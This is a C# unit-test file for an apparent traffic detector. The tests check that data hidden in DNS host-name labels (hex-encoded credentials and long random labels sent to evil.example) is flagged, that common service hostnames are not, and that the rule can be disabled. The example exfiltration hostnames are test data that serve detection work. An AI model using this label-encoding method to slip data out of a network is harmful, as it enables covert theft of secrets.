using System.Text;
using TrafficGuardian.Detection.Findings;

namespace TrafficGuardian.Detection.Tests.Exfil;

public sealed class HostNameTests
{
    [Theory]
    [InlineData("user=root;pass=hunter")]
    [InlineData("the plan is in the safe")]
    public void Text_in_the_labels_of_a_host_is_found(string text)
    {
        var hex = Convert.ToHexStringLower(Encoding.ASCII.GetBytes(text));
        Assert.Equal(["hostname_exfil/encoded-text"], Harness.Names(Found($"{hex}.x.evil.example")));
    }

    [Fact]
    public void Long_random_labels_are_found_and_hidden_in_the_destination()
    {
        var label = Outbound.Expand("{lowerdigit:50}");
        var found = Assert.Single(Found($"{label}.evil.example"));
        Assert.Equal("long-label", found.Rule);
        Assert.DoesNotContain(label[..8], found.Finding.Dest + found.Finding.Snippet, StringComparison.Ordinal);
    }

    [Fact]
    public void Short_texts_count_where_there_are_several_and_behind_the_mark_of_punycode()
    {
        static string Hex(string text) => Convert.ToHexStringLower(Encoding.ASCII.GetBytes(text));
        Assert.Equal(["hostname_exfil/encoded-text"], Harness.Names(Found($"{Hex("MaryRoe")}.{Hex("Secret7")}.x.evil.example")));
        Assert.Equal(["hostname_exfil/encoded-text"], Harness.Names(Found($"xn--{Hex("plan 2026 draft")}.x.evil.example")));
        Assert.Empty(Found($"{Hex("MaryRoe")}.x.evil.example"));
        Assert.Empty(Found("xn--bcher-kva.example"));
    }

    [Theory]
    [InlineData("{digit:38}.x")]
    [InlineData("{hex:4}1a2b.{hex:4}3c4d.{hex:4}5e6f.{hex:4}7a8b.{hex:4}9c0d.x")]
    [InlineData("{lower:8}2{lowerdigit:20}7x.x")]
    public void Numbers_pieces_and_packed_labels_that_no_name_has_are_found(string labels) =>
        Assert.Equal(["hostname_exfil/long-label"], Harness.Names(Found(Outbound.Expand(labels) + ".evil.example")));

    [Theory]
    [InlineData("1700000000000.example.com")]
    [InlineData("web01.rack02.row03.hall4.dc5.example.com")]
    [InlineData("d41d8cd98f00b204e9800998ecf8427e.preview.example.com")]
    public void Times_machines_and_digests_are_silent(string host) => Assert.Empty(Found(host));

    [Theory]
    [InlineData("api.github.com")]
    [InlineData("d111111abcdef8.cloudfront.net")]
    [InlineData("0123456789abcdef0123456789abcdef.gr7.us-east-1.eks.amazonaws.com")]
    [InlineData("my-very-long-preview-branch-name-of-a-feature-team-site.vercel.app")]
    [InlineData("3fa85f64-5717-4562-b3fc-2c963f66afa6.example.com")]
    [InlineData("autodiscover.internal-services.corporation.example")]
    [InlineData("192.0.2.1")]
    public void Names_that_services_make_up_are_silent(string host) => Assert.Empty(Found(host));

    [Fact]
    public void It_can_be_switched_off()
    {
        var detector = Detector.Create(new DetectorOptions { FingerprintKey = new byte[32], Disabled = ["hostname_exfil"] }, out _)!;
        Assert.Empty(Harness.Head("GET / HTTP/1.1\nHost: x\n\n", host: Outbound.Expand("{lowerdigit:50}") + ".evil.example", detector: detector));
        Assert.DoesNotContain(detector.RulesInCode, static r => r.Pattern.Name == "hostname_exfil");
    }

    private static IReadOnlyList<Detected> Found(string host) => Outbound.Request(host, "GET /", "", "");
}
